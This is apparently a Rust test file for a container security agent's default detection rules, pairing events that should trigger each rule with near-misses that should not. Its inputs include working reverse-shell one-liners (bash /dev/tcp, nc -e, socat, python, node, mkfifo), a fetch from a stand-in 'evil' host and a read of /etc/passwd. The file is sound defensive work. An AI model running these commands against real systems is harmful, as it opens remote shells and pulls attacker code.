//! The embedded default rules: for each, an exec that fires it and a near-miss that must not.

mod rules_support;

use rules_support::{default_rules, engine, fired};
use youwatch_agent::{
    detection::Priority,
    event::EnrichedExec,
    rules::{Engine, RuleMatching, sample::Exec},
};

/// /dev/pts/0
const PTS0: u32 = 34816;

fn defaults() -> Engine {
    engine(&[default_rules()], RuleMatching::All)
}

fn fires(engine: &Engine, rule: &str, priority: Priority, exec: &EnrichedExec) {
    let got = fired(engine, exec);
    assert!(
        got.contains(&(rule.to_owned(), priority)),
        "{rule} did not fire for {:?} (fired: {got:?})",
        exec.process
    );
}

fn quiet(engine: &Engine, rule: &str, exec: &EnrichedExec) {
    let got = fired(engine, exec);
    assert!(
        got.iter().all(|(name, _)| name != rule),
        "{rule} fired for the near-miss {:?}",
        exec.process
    );
}

fn in_pod(exec: Exec) -> EnrichedExec {
    exec.pod("shop", "web-7c9d").build()
}

#[test]
fn shell_in_juice_shop_pod() {
    let e = defaults();
    let rule = "Shell spawned in Juice Shop pod";
    fires(
        &e,
        rule,
        Priority::Critical,
        &Exec::new(["/bin/sh", "-c", "cat /etc/passwd"])
            .ancestor(["node", "/juice-shop/build/app.js"])
            .pod("shop", "juice-shop-6f7d9-x2x4k")
            .build(),
    );
    // Not a shell, in the same pod.
    quiet(
        &e,
        rule,
        &Exec::new(["node", "/juice-shop/build/app.js"])
            .pod("shop", "juice-shop-6f7d9-x2x4k")
            .build(),
    );
    // A shell, in another pod.
    quiet(&e, rule, &in_pod(Exec::new(["sh", "-c", "true"])));
}

#[test]
fn interactive_terminal_shell() {
    let e = defaults();
    let rule = "Interactive terminal shell in container";
    fires(
        &e,
        rule,
        Priority::Notice,
        &in_pod(Exec::new(["bash"]).ancestor(["bash"]).tty(PTS0)),
    );
    quiet(
        &e,
        rule,
        &in_pod(Exec::new(["bash", "-c", "true"]).ancestor(["bash"])),
    );
    quiet(
        &e,
        rule,
        &Exec::new(["bash"]).ancestor(["sshd"]).tty(PTS0).build(),
    );
}

#[test]
fn shell_started_by_the_runtime() {
    let e = defaults();
    let rule = "Shell started by container runtime in pod";
    fires(
        &e,
        rule,
        Priority::Warning,
        &in_pod(Exec::new(["sh", "-c", "ls /"]).parent_comm("runc:[2:INIT]")),
    );
    // Its parent is the application.
    quiet(
        &e,
        rule,
        &in_pod(Exec::new(["sh", "-c", "ls /"]).ancestor(["node", "app.js"])),
    );
}

#[test]
fn shell_entrypoint_images_can_be_excepted() {
    let tuning = youwatch_agent::rules::source::SourceFile::new(
        "tuning.yaml",
        "- rule: Shell started by container runtime in pod\n  exceptions:\n    - name: shell_entrypoint_images\n      values: [docker.io/library/app]\n  override: {exceptions: append}\n"
            .to_owned(),
    );
    let e = rules_support::engine(&[default_rules(), tuning], RuleMatching::All);
    quiet(
        &e,
        "Shell started by container runtime in pod",
        &in_pod(Exec::new(["sh", "-c", "ls /"]).parent_comm("runc")),
    );
}

#[test]
fn reverse_shell_command_lines() {
    let e = defaults();
    let rule = "Reverse shell command line in container";
    for argv in [
        vec!["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        vec!["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        vec!["ncat", "--sh-exec", "/bin/bash", "10.0.0.1", "4444"],
        vec![
            "socat",
            "tcp-connect:10.0.0.1:4444",
            "EXEC:/bin/bash,pty,stderr",
        ],
        vec![
            "python3",
            "-c",
            "import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
        ],
        vec![
            "node",
            "-e",
            "var n=require('net'),c=require('child_process');var s=new n.Socket();s.connect(4444,'10.0.0.1')",
        ],
        vec![
            "sh",
            "-c",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
        ],
    ] {
        fires(&e, rule, Priority::Critical, &in_pod(Exec::new(argv)));
    }
    for argv in [
        vec!["bash", "-c", "echo ok > /tmp/health"],
        vec!["python3", "-c", "print(1)"],
        vec!["nc", "-zv", "db", "5432"],
        vec!["node", "/juice-shop/build/app.js"],
    ] {
        quiet(&e, rule, &in_pod(Exec::new(argv)));
    }
    // On the host, not in a container.
    quiet(
        &e,
        rule,
        &Exec::new(["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]).build(),
    );
}

#[test]
fn package_managers() {
    let e = defaults();
    let rule = "Package manager run in container";
    fires(
        &e,
        rule,
        Priority::Error,
        &in_pod(Exec::new(["apt-get", "install", "-y", "nmap"])),
    );
    fires(
        &e,
        rule,
        Priority::Error,
        &in_pod(Exec::new(["npm", "install", "evil-pkg"])),
    );
    fires(
        &e,
        rule,
        Priority::Error,
        &in_pod(Exec::new(["pip3", "install", "requests"])),
    );
    // How Node images start.
    quiet(&e, rule, &in_pod(Exec::new(["npm", "start"])));
    quiet(&e, rule, &Exec::new(["apt-get", "update"]).build());
}

#[test]
fn network_tools() {
    let e = defaults();
    let rule = "Network tool run in container";
    fires(
        &e,
        rule,
        Priority::Warning,
        &in_pod(Exec::new(["nmap", "-sS", "10.0.0.0/24"])),
    );
    fires(
        &e,
        rule,
        Priority::Warning,
        &in_pod(
            Exec::new(["curl", "-o", "/tmp/x", "http://evil/x"]).ancestor(["sh", "-c", "curl ..."]),
        ),
    );
    // curl run by the application (a probe, a webhook): quiet.
    quiet(
        &e,
        rule,
        &in_pod(Exec::new(["curl", "http://localhost/health"]).ancestor(["node", "app.js"])),
    );
}
